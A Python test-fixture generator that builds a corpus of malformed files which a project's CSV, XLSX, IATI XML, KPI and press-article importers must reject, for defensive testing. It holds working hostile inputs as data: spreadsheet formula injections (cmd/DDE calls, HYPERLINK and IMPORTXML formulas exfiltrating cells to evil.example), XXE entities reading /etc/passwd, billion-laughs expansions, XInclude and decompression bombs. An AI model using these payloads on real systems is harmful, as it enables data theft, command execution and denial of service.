"""Writes the generated part of the bad-input corpus: files that tandem's importers must refuse
with one clear message and without writing anything.

    .venv/bin/python tests/data/bad/make_corpus.py

Deterministic (fixed seeds): running it again rewrites the same bytes. Each importer has its
folder: ``registry/`` (project registry CSV/XLSX), ``iati/`` (IATI 2.03 XML activity files),
``kpi/`` (the exchange's KPI workbook), ``press/`` (press articles: text, HTML, PDF, DOCX,
decompression bombs of each). Generated files start with ``g-``; the other files in
the folders are written by hand. Files larger than the upload limit are not stored: the tests
build them with :func:`oversized`.
"""

from __future__ import annotations

import io
import random
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

HERE = Path(__file__).resolve().parent

REGISTRY_HEADER = (
    "code,title_en,title_ja,title_ru,status,status_date,plan_areas,national_projects,"
    "regions,aspects,lead_jp,lead_ru,disclosure"
)
REGISTRY_GOOD_ROW = (
    "JR-2021-0001,Lean production in Kazan,カザンのリーン生産,Бережливое производство в Казани,"
    "agreed,2021-03-01,P5; P3,N7,RU-TA,productivity,,,internal"
)
KPI_HEADER = [
    "enterprise_id",
    "enterprise",
    "indicator",
    "name",
    "unit",
    "higher_is_better",
    "horizon_months",
    "date",
    "value",
    "method",
]
KPI_GOOD_ROW = [
    "1",
    "Uralmash",
    "labour_productivity",
    "",
    "rub_per_worker_hour",
    "true",
    "0",
    "2019-01-15",
    "1200",
    "Plant records",
]

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '=DDE("cmd";"/C calc";"A0")',
]

#: Control characters text fields refuse (tab, line feed and carriage return are allowed).
CONTROLS = ["\x01", "\x00", "\x1b[31m", "\x7f", "\x0b", "\x08", "\x1f"]


def garbage(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


MAGIC = {
    "png": b"\x89PNG\r\n\x1a\n" + garbage(1, 200),
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n" + garbage(2, 100),
    "gzip": b"\x1f\x8b\x08\x00" + garbage(3, 200),
    "elf": b"\x7fELF\x02\x01\x01" + garbage(4, 200),
    "nul": b"\x00" * 512,
    "exe": b"MZ\x90\x00" + garbage(5, 300),
    "ole2-xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + garbage(6, 500),
    "utf16-bom-only": b"\xff\xfe",
    "utf8-bom-only": b"\xef\xbb\xbf",
    "whitespace": b"   \n\t\n  \r\n",
    "empty": b"",
    "one-newline": b"\n",
    "random-1k": garbage(7, 1024),
    "random-64k": garbage(8, 65536),
    "random-text": bytes(random.Random(9).choice(b'abc,;"\n=<>&') for _ in range(4000)),
}


def csv_text(header: str, rows: list[str]) -> str:
    return "\n".join([header, *rows]) + "\n"


def registry_row(**changes: str) -> str:
    names = REGISTRY_HEADER.split(",")
    values = dict(zip(names, split_row(REGISTRY_GOOD_ROW), strict=True)) | changes
    return ",".join(quote(values[name]) for name in names)


def split_row(row: str) -> list[str]:
    return row.split(",")


def quote(value: str) -> str:
    if any(c in value for c in ',"\n\r'):
        return '"' + value.replace('"', '""') + '"'
    return value


def xlsx(rows: list[list[object]], sheet: str = "Sheet1") -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    ws = book.active
    ws.title = sheet
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def zip_with(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_bomb(size: int = 160 * 1024 * 1024) -> bytes:
    """An XLSX-shaped zip whose sheet unpacks to ``size`` bytes (stored compressed ~400 KB)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b"<row>" + b" " * (1024 * 1024 - 11) + b"</row>"
            for _ in range(size // len(chunk)):
                member.write(chunk)
    return out.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
WORKBOOK = (
    '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    '2006/main"><sheets><sheet name="s" sheetId="1"/></sheets></workbook>'
)
XXE_SHARED = (
    '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
    'uniqueCount="1"><si><t>&x;</t></si></sst>'
)
LAUGHS_SHARED = (
    '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
    + ']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&i;'
    "</t></si></sst>"
)


def xlsx_variants(good: bytes, prefix: str) -> Iterator[tuple[str, bytes]]:
    """Broken workbooks derived from a good one."""
    for percent in (1, 10, 30, 50, 70, 90, 99):
        yield f"{prefix}truncated-{percent:02d}pct.xlsx", good[: len(good) * percent // 100]
    flipped = bytearray(good)
    for i in range(100, len(flipped), 97):
        flipped[i] ^= 0xFF
    yield f"{prefix}bit-flipped.xlsx", bytes(flipped)
    yield f"{prefix}zip-empty.xlsx", zip_with({})
    yield f"{prefix}zip-only-text.xlsx", zip_with({"readme.txt": b"not a workbook"})
    yield (
        f"{prefix}zip-no-sheets.xlsx",
        zip_with(
            {"[Content_Types].xml": CONTENT_TYPES.encode(), "xl/workbook.xml": WORKBOOK.encode()}
        ),
    )
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    sheet = next(n for n in members if n.startswith("xl/worksheets/"))
    strings = "xl/sharedStrings.xml"
    for name, doctype in (
        ("xxe", XXE_SHARED.split("<sst")[0].split("?>")[1]),
        ("billion-laughs", LAUGHS_SHARED.split("<sst")[0].split("?>")[1]),
    ):
        for part in (sheet, "xl/workbook.xml") + ((strings,) if strings in members else ()):
            xml = members[part]
            if xml.startswith(b"<?xml"):
                declaration, rest = xml.split(b"?>", 1)
                xml = declaration + b"?>" + doctype.encode() + rest
            else:
                xml = doctype.encode() + xml
            label = part.rsplit("/", 1)[-1].removesuffix(".xml")
            yield f"{prefix}{name}-in-{label}.xlsx", zip_with(members | {part: xml})
    yield f"{prefix}sheet-not-xml.xlsx", zip_with(members | {sheet: b"\x00\x01garbage<<<"})
    yield (
        f"{prefix}sheet-huge-dimension.xlsx",
        zip_with(
            members
            | {
                sheet: members[sheet].replace(
                    b'<dimension ref="', b'<dimension ref="A1:XFD1048576" x="'
                )
            }
        ),
    )
    yield (
        f"{prefix}workbook-missing.xlsx",
        zip_with({k: v for k, v in members.items() if k != "xl/workbook.xml"}),
    )
    yield f"{prefix}stored-not-deflated.xlsx", zip_with({"a": garbage(11, 100)}, zipfile.ZIP_STORED)


def registry_files() -> Iterator[tuple[str, bytes]]:
    for name, data in MAGIC.items():
        yield f"g-magic-{name}.csv", data
        yield f"g-magic-{name}.xlsx", data
    for i, formula in enumerate(FORMULAS):
        for column in ("code", "title_en", "title_ru", "lead_jp", "regions"):
            yield (
                f"g-formula-{i:02d}-{column}.csv",
                csv_text(REGISTRY_HEADER, [registry_row(**{column: formula})]).encode(),
            )
    text = csv_text(REGISTRY_HEADER, [registry_row(title_en="Bad \udcff", status="not-a-status")])
    good = csv_text(REGISTRY_HEADER, [registry_row(code="JR-2021-0001", status="not-a-status")])
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1251", "shift_jis"):
        yield f"g-encoding-{encoding}.csv", good.encode(encoding, "replace")
    yield "g-encoding-lone-surrogate.csv", text.encode("utf-8", "surrogateescape")
    yield "g-encoding-invalid-utf8.csv", good.encode() + b"\xc3\x28\xa0\xa1\xff\xfe\n"
    yield "g-encoding-mixed.csv", good.encode() + "JR-2021-0009,Смесь,,,,,,,,,,,\n".encode("cp1251")
    bad_values = {
        "status_date": ["2019-13-45", "yesterday", "31/12/2019", "0000-00-00", "9" * 40],
        "status": ["agreed; idea", "DROP TABLE", "<script>x</script>"],
        "plan_areas": ["P0", "P99", "P1;;P1", "p1", "Р1"],
        "national_projects": ["N0", "N14", "N1;N99"],
        "regions": ["RU-XXX", "JP-99", "XX-01"],
        "disclosure": ["secret", "side_confidential", "PUBLIC "],
        "code": ["", "JR-21-1", "jr-2021-0001", "JR-2021-0001\x00", "A" * 300, "ДЖ-2021-0001"],
        "title_en": ["x" * 20000],
    }
    for column, values in bad_values.items():
        for i, value in enumerate(values):
            changes = {column: value}
            if column != "code":
                changes["code"] = "JR-2021-0777"
            if column == "code" or column == "status":
                changes["title_en"] = ""
            yield (
                f"g-value-{column}-{i}.csv",
                csv_text(REGISTRY_HEADER, [registry_row(**changes)]).encode(
                    "utf-8", "surrogateescape"
                ),
            )
    structures = {
        "unbalanced-quote": REGISTRY_HEADER + '\n"JR-2021-0001,unclosed\n',
        "semicolon-delimited": REGISTRY_HEADER.replace(",", ";")
        + "\n"
        + REGISTRY_GOOD_ROW.replace(",", ";")
        + "\n",
        "tab-delimited": REGISTRY_HEADER.replace(",", "\t") + "\n",
        "duplicate-header": REGISTRY_HEADER + ",code\n" + REGISTRY_GOOD_ROW + ",JR-2021-0002\n",
        "header-uppercase": REGISTRY_HEADER.upper() + "\n" + REGISTRY_GOOD_ROW + "\n",
        "header-spaces": REGISTRY_HEADER.replace(",", " , ") + "\n" + REGISTRY_GOOD_ROW + "\n",
        "no-header": REGISTRY_GOOD_ROW + "\n",
        "only-commas": ",,,,,,,,,,,,\n,,,,,,,,,,,,\n",
        "nul-in-cell": REGISTRY_HEADER
        + "\nJR-2021-0001,a\x00b,,,agreed,2021-01-01,P1,,,,,,internal\n",
        "cr-only-lines": (REGISTRY_HEADER + "\r" + registry_row(status="bad") + "\r"),
        "too-few-cells": REGISTRY_HEADER + "\nJR-2021-0001,Title\n",
        "ten-thousand-columns": ",".join(f"c{i}" for i in range(10000)) + "\n",
        "very-long-line": REGISTRY_HEADER + "\n" + "a" * 200_000 + "\n",
        "duplicate-codes-3": csv_text(REGISTRY_HEADER, [REGISTRY_GOOD_ROW] * 3),
        "duplicate-codes-case": csv_text(
            REGISTRY_HEADER, [REGISTRY_GOOD_ROW, REGISTRY_GOOD_ROW.replace("Lean", "Other")]
        ),
        "html-instead": "<!doctype html><html><body><table><tr><td>x</td></tr></table>",
        "json-instead": '[{"code": "JR-2021-0001"}]',
        "xml-instead": "<?xml version='1.0'?><iati-activities/>",
        "blank-lines-only-after-header": REGISTRY_HEADER + "\n\n\n\n",
        "quoted-newlines-in-code": REGISTRY_HEADER
        + '\n"JR-2021-\n0001",T,,,idea,2021-01-01,P1,,,,,,internal\n',
    }
    for name, content in structures.items():
        yield f"g-structure-{name}.csv", content.encode()
    # C0 control characters (and DEL) in otherwise good text cells: refused, never stored.
    for i, control in enumerate(CONTROLS):
        for column in ("title_en", "title_ru", "title_ja"):
            cell = f"Lean{control}production"
            yield (
                f"g-control-{i}-{column}.csv",
                csv_text(REGISTRY_HEADER, [registry_row(**{column: cell})]).encode(),
            )
    header = REGISTRY_HEADER.split(",")
    good_cells: list[object] = split_row(REGISTRY_GOOD_ROW)
    good_book = xlsx([header, good_cells])
    yield from xlsx_variants(good_book, "g-")
    yield "g-xlsx-formula-cells.xlsx", xlsx([header, ['=A1&"x"', *good_cells[1:]]])
    yield "g-xlsx-wrong-header.xlsx", xlsx([["titel", "kode"], ["x", "y"]])
    yield "g-xlsx-header-only.xlsx", xlsx([header])
    yield "g-xlsx-empty-sheet.xlsx", xlsx([])
    yield "g-xlsx-number-code.xlsx", xlsx([header, [12345, *good_cells[1:]]])
    yield "g-xlsx-date-as-number.xlsx", xlsx([header, [*good_cells[:5], 43831.5, *good_cells[6:]]])
    yield "g-xlsx-duplicate-codes.xlsx", xlsx([header, good_cells, good_cells])
    yield "g-xlsx-bad-status.xlsx", xlsx([header, [*good_cells[:4], "nope", *good_cells[5:]]])
    yield "g-csv-named-xlsx.xlsx", csv_text(REGISTRY_HEADER, [registry_row(status="x")]).encode()
    yield "g-xlsx-named-csv.csv", xlsx([header, [*good_cells[:4], "nope", *good_cells[5:]]])
    yield "g-zip-bomb-deflate.xlsx", zip_bomb()


IATI_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'


def activity(code: str = "JR-2020-0101", **parts: str) -> str:
    defaults = {
        "title": "<title><narrative>Probe activity</narrative></title>",
        "status": '<activity-status code="2"/>',
        "date": '<activity-date type="1" iso-date="2020-01-01"/>',
        "org": '<participating-org role="1"><narrative>Funder</narrative></participating-org>',
    } | parts
    return (
        f"<iati-activity><iati-identifier>{code}</iati-identifier>"
        '<reporting-org ref="XM-TEST" type="10"><narrative>Test</narrative></reporting-org>'
        + "".join(defaults.values())
        + "</iati-activity>"
    )


def activities(*items: str, version: str = "2.03") -> str:
    return (
        IATI_HEAD
        + f'<iati-activities version="{version}">'
        + "".join(items)
        + "</iati-activities>\n"
    )


def iati_files() -> Iterator[tuple[str, bytes]]:
    for name, data in MAGIC.items():
        yield f"g-magic-{name}.xml", data
    entity_attacks = {
        "xxe-file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "xxe-http": '<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>',
        "xxe-parameter": '<!DOCTYPE a [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
        "external-dtd": '<!DOCTYPE iati-activities SYSTEM "http://127.0.0.1:9/iati.dtd">',
        "public-dtd": '<!DOCTYPE iati-activities PUBLIC "-//X//Y" "file:///etc/hosts">',
        "billion-laughs": '<!DOCTYPE a [<!ENTITY x0 "lol">'
        + "".join(f'<!ENTITY x{i} "{("&x" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
        + "]>",
        "quadratic-blowup": '<!DOCTYPE a [<!ENTITY x "' + "A" * 50_000 + '">]>',
        "internal-entity": '<!DOCTYPE a [<!ENTITY x "harmless">]>',
    }
    for name, doctype in entity_attacks.items():
        reference = (
            "&x9;" if name == "billion-laughs" else "&x;" * (2000 if "quadratic" in name else 1)
        )
        body = activities(activity(title=f"<title><narrative>{reference}</narrative></title>"))
        yield f"g-{name}.xml", (IATI_HEAD + doctype + body[len(IATI_HEAD) :]).encode()
    yield (
        "g-xinclude.xml",
        activities(
            activity(
                title='<title><narrative><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                'href="file:///etc/passwd" parse="text"/></narrative></title>'
            )
        ).encode(),
    )
    whole = activities(activity(), activity("JR-2020-0102"))
    for percent in (5, 20, 40, 60, 80, 95, 99):
        yield f"g-truncated-{percent:02d}pct.xml", whole.encode()[: len(whole) * percent // 100]
    roots = {
        "wrong-root": "<activities><iati-activity/></activities>",
        "html-root": "<html><body>not iati</body></html>",
        "organisation-file": (
            '<iati-organisations version="2.03"><iati-organisation/></iati-organisations>'
        ),
        "empty-root": '<iati-activities version="2.03"/>',
        "no-version": "<iati-activities>" + activity() + "</iati-activities>",
        "version-1": '<iati-activities version="1.05">' + activity() + "</iati-activities>",
        "version-9": '<iati-activities version="9.99">' + activity() + "</iati-activities>",
        "two-roots": '<iati-activities version="2.03"/><iati-activities version="2.03"/>',
        "text-root": "just text",
        "comment-only": "<!-- nothing -->",
        "pi-only": "<?xml-stylesheet href='x'?>",
    }
    for name, body in roots.items():
        yield f"g-root-{name}.xml", (IATI_HEAD + body).encode()
    bad_activities = {
        "no-identifier": activity("").replace("<iati-identifier></iati-identifier>", ""),
        "empty-identifier": activity(""),
        "foreign-identifier": activity("XM-DAC-41114-PROJECT-1"),
        "identifier-too-long": activity("JR-2020-" + "1" * 500),
        "identifier-formula": activity("=cmd|'/C calc'!A0"),
        "no-title": activity(title=""),
        "empty-title": activity(title="<title/>"),
        "bad-status": activity(status='<activity-status code="99"/>'),
        "status-text": activity(status='<activity-status code="ongoing"/>'),
        "no-status": activity(status=""),
        "bad-date": activity(date='<activity-date type="1" iso-date="2020-02-31"/>'),
        "slash-date": activity(date='<activity-date type="1" iso-date="31/12/2020"/>'),
        "year-zero": activity(date='<activity-date type="1" iso-date="0000-01-01"/>'),
        "title-formula": activity(title="<title><narrative>=1+1</narrative></title>"),
        "huge-title": activity(title="<title><narrative>" + "x" * 100_000 + "</narrative></title>"),
        "script-title": activity(
            title="<title><narrative><![CDATA[<script>alert(1)</script>]]></narrative></title>"
        ),
        "deep-nesting": activity(title="<x>" * 3000 + "</x>" * 3000),
        "duplicate-identifiers": activity() + activity(),
        "bad-language": activity(
            title='<title><narrative xml:lang="zz-ZZ-invalid">Title</narrative></title>'
        ),
        "huge-attribute": activity(status='<activity-status code="' + "2" * 200_000 + '"/>'),
    }
    for name, body in bad_activities.items():
        yield f"g-activity-{name}.xml", activities(body).encode()
    yield (
        "g-activity-duplicate-identifiers-many.xml",
        activities(*(activity("JR-2020-0200") for _ in range(50))).encode(),
    )
    text = activities(activity("bad code"))
    for encoding in ("utf-16", "utf-16-be", "utf-32", "cp1251", "shift_jis", "latin-1"):
        yield f"g-encoding-{encoding}.xml", text.encode(encoding)
    yield "g-encoding-declared-wrong.xml", text.replace("UTF-8", "ISO-8859-5").encode("utf-16")
    yield "g-encoding-invalid-utf8.xml", text.encode()[:200] + b"\xc3\x28\xff" + text.encode()[200:]
    yield (
        "g-not-wellformed-unclosed.xml",
        (IATI_HEAD + '<iati-activities version="2.03"><iati-activity>').encode(),
    )
    yield (
        "g-not-wellformed-ampersand.xml",
        activities(activity(title="<title><narrative>A & B</narrative></title>")).encode(),
    )
    yield "g-not-wellformed-nul.xml", activities(activity()).encode().replace(b"Probe", b"Pr\x00be")
    yield "g-csv-instead.xml", csv_text(REGISTRY_HEADER, [REGISTRY_GOOD_ROW]).encode()
    yield "g-xlsx-instead.xml", xlsx([["a"], ["b"]])


def kpi_files() -> Iterator[tuple[str, bytes]]:
    for name, data in MAGIC.items():
        yield f"g-magic-{name}.xlsx", data
    good = xlsx([KPI_HEADER, KPI_GOOD_ROW], sheet="kpi")
    yield from xlsx_variants(good, "g-")
    yield "g-zip-bomb-deflate.xlsx", zip_bomb()
    yield "g-csv-instead.xlsx", (",".join(KPI_HEADER) + "\n" + ",".join(KPI_GOOD_ROW)).encode()
    yield "g-header-only.xlsx", xlsx([KPI_HEADER], sheet="kpi")
    yield "g-empty-sheet.xlsx", xlsx([], sheet="kpi")
    yield "g-no-header.xlsx", xlsx([KPI_GOOD_ROW], sheet="kpi")
    yield (
        "g-header-missing-value.xlsx",
        xlsx([KPI_HEADER[:-2] + KPI_HEADER[-1:], KPI_GOOD_ROW], sheet="kpi"),
    )
    yield "g-header-unknown.xlsx", xlsx([["wert", "datum"], [1, 2]], sheet="kpi")
    yield "g-wrong-sheet-name-and-header.xlsx", xlsx([["a", "b"], [1, 2]], sheet="other")
    changes: dict[str, list[object]] = {
        "enterprise_id": ["", "abc", -1, 10**30, 999999, "1.5", "=1+1"],
        "indicator": ["", "happiness", "LABOUR_PRODUCTIVITY", "=cmd|'/C calc'!A0"],
        "horizon_months": ["", 3, -6, "six", 12.5, 10**12],
        "date": ["", "2019-13-01", "yesterday", "31/12/2019", 0, "0000-01-01"],
        "value": ["", "abc", "nan", "inf", "-inf", "1e400", "=1/0", "1" * 400],
        "unit": ["x" * 5000],
        "method": ["m" * 20000],
        "higher_is_better": ["maybe"],
    }
    for column, values in changes.items():
        index = KPI_HEADER.index(column)
        for i, value in enumerate(values):
            row = list(KPI_GOOD_ROW)
            row[index] = value  # type: ignore[call-overload]
            yield f"g-value-{column}-{i}.xlsx", xlsx([KPI_HEADER, row], sheet="kpi")
    yield "g-duplicate-rows.xlsx", xlsx([KPI_HEADER, KPI_GOOD_ROW, KPI_GOOD_ROW], sheet="kpi")
    followup = list(KPI_GOOD_ROW)
    followup[KPI_HEADER.index("horizon_months")] = "12"
    yield "g-followup-without-baseline.xlsx", xlsx([KPI_HEADER, followup], sheet="kpi")
    good_then_bad = list(KPI_GOOD_ROW)
    good_then_bad[KPI_HEADER.index("value")] = "not a number"
    yield "g-one-good-one-bad.xlsx", xlsx([KPI_HEADER, KPI_GOOD_ROW, good_then_bad], sheet="kpi")
    yield (
        "g-formula-cells.xlsx",
        xlsx([KPI_HEADER, [*KPI_GOOD_ROW[:8], "=A1*2", KPI_GOOD_ROW[9]]], sheet="kpi"),
    )


def docx(paragraphs: list[str]) -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def docx_bomb(size: int, members: dict[str, bytes]) -> bytes:
    """A DOCX whose document part unpacks to ``size`` bytes of one paragraph (the 394 KB file
    that expanded to 156 MB is this shape), beside the good file's other ``members``."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            if name != "word/document.xml":
                archive.writestr(name, data)
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(DOCX_HEAD)
            chunk = b"<w:p><w:r><w:t>" + b"a" * (1024 * 1024 - 32) + b"</w:t></w:r></w:p>"
            for _ in range(size // len(chunk)):
                member.write(chunk)
            member.write(b"</w:body></w:document>")
    return out.getvalue()


DOCX_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body>"
)


def pdf(streams: list[bytes], pages: int = 1) -> bytes:
    """A PDF written by hand: ``pages`` pages sharing the first content stream (FlateDecode),
    any further streams hung on the first page as extra contents."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    first_page = 3
    stream_at = first_page + pages
    contents = " ".join(f"{stream_at + i} 0 R" for i in range(len(streams)))
    kids = " ".join(f"{first_page + i} 0 R" for i in range(pages))
    objects.append(f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode())
    for i in range(pages):
        own = contents if i == 0 else f"{stream_at} 0 R"
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [{own}] >>".encode()
        )
    for data in streams:
        packed = zlib.compress(data, 9)
        objects.append(
            f"<< /Length {len(packed)} /Filter /FlateDecode >>\nstream\n".encode()
            + packed
            + b"\nendstream"
        )
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return out.getvalue()


def zip_members(raw: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def press_files() -> Iterator[tuple[str, bytes]]:
    """Articles the press monitor must refuse: decompression bombs of every format it reads
    (DOCX, PDF, HTML), and broken or disguised files."""
    for name in ("png", "gzip", "elf", "exe", "ole2-xls", "random-1k", "random-64k"):
        yield f"g-magic-{name}.txt", MAGIC[name]
    for name in ("utf16-bom-only", "utf8-bom-only", "whitespace", "empty", "one-newline"):
        yield f"g-blank-{name}.txt", MAGIC[name]
    good = docx(["Press article headline", "A paragraph about lean production in Kazan."])
    members = zip_members(good)
    yield "g-docx-bomb-156mb.docx", docx_bomb(156 * 1024 * 1024, members)
    yield "g-docx-bomb-ratio.docx", docx_bomb(30 * 1024 * 1024, members)
    for label, head in (("xxe", XXE_SHARED), ("laughs", LAUGHS_SHARED)):
        body = head.replace("sst", "w:document").encode()
        yield f"g-docx-dtd-{label}.docx", zip_with(members | {"word/document.xml": body})
    yield "g-docx-no-document.docx", zip_with({"readme.txt": b"not a document"})
    yield "g-docx-empty-zip.docx", zip_with({})
    yield "g-docx-document-not-xml.docx", zip_with(members | {"word/document.xml": b"\x00<<"})
    yield "g-docx-no-text.docx", docx([])
    for percent in (5, 20, 40, 60, 80, 95, 99):
        yield f"g-docx-truncated-{percent:02d}pct.docx", good[: len(good) * percent // 100]
    flipped = bytearray(good)
    for i in range(0, len(flipped), 97):
        flipped[i] ^= 0xFF
    yield "g-docx-bit-flipped.docx", bytes(flipped)
    yield "g-docx-named-but-text.docx", b"Just some text named as a DOCX.\n"
    many = {f"word/media/part{i:04d}.xml": b" " * 40_000 for i in range(1500)}
    yield "g-docx-bomb-members.docx", zip_with(members | many)
    page_text = b"BT /F1 12 Tf 72 712 Td (Press article) Tj ET\n"
    good_pdf = pdf([page_text])
    yield "g-pdf-bomb-flate-100mb.pdf", pdf([b" " * (100 * 1024 * 1024)])
    yield "g-pdf-bomb-flate-streams.pdf", pdf([b" " * (21 * 1024 * 1024)] * 3)
    yield "g-pdf-bomb-pages.pdf", pdf([page_text], pages=1500)
    for percent in (5, 20, 40, 60, 80, 95, 99):
        yield f"g-pdf-truncated-{percent:02d}pct.pdf", good_pdf[: len(good_pdf) * percent // 100]
    yield "g-pdf-magic-garbage.pdf", MAGIC["pdf"]
    yield "g-pdf-magic-named-txt.txt", MAGIC["pdf"]
    yield "g-pdf-no-text.pdf", pdf([b"0 0 m 10 10 l S\n"])
    yield "g-pdf-named-but-text.pdf", b"Just some text named as a PDF.\n"
    html_head = b"<!doctype html><html><head><title></title></head><body>"
    yield "g-html-bomb-elements.html", html_head + b"<br>" * 250_001 + b"</body></html>"
    yield "g-html-bomb-nesting.html", html_head + b"<div>" * 100_000 + b"</body></html>"
    yield "g-html-only-scripts.html", html_head + b"<script>var a = 1;</script></body></html>"
    yield "g-html-empty-body.html", html_head + b"</body></html>"
    yield "g-html-bomb-comments.html", html_head + b"<!--x-->" * 100_000 + b"</body></html>"
    yield "g-html-not-utf8.html", html_head + b"<p>\xc3\x28\xff</p></body></html>"


IMPORTERS: dict[str, Callable[[], Iterator[tuple[str, bytes]]]] = {
    "registry": registry_files,
    "iati": iati_files,
    "kpi": kpi_files,
    "press": press_files,
}


def oversized(limit: int, suffix: str) -> bytes:
    """A file one byte over ``limit`` that looks like the importer's format at the start."""
    head = {
        ".csv": (REGISTRY_HEADER + "\n").encode(),
        ".xml": (IATI_HEAD + '<iati-activities version="2.03">').encode(),
        ".xlsx": b"PK\x03\x04",
        ".txt": b"An article longer than the limit\n",
    }[suffix]
    return head + b" " * (limit + 1 - len(head))


def main() -> None:
    total = 0
    for importer, files in IMPORTERS.items():
        folder = HERE / importer
        folder.mkdir(exist_ok=True)
        for old in folder.glob("g-*"):
            old.unlink()
        for name, data in files():
            (folder / name).write_bytes(data)
            total += 1
    print(f"wrote {total} generated files")


if __name__ == "__main__":
    main()
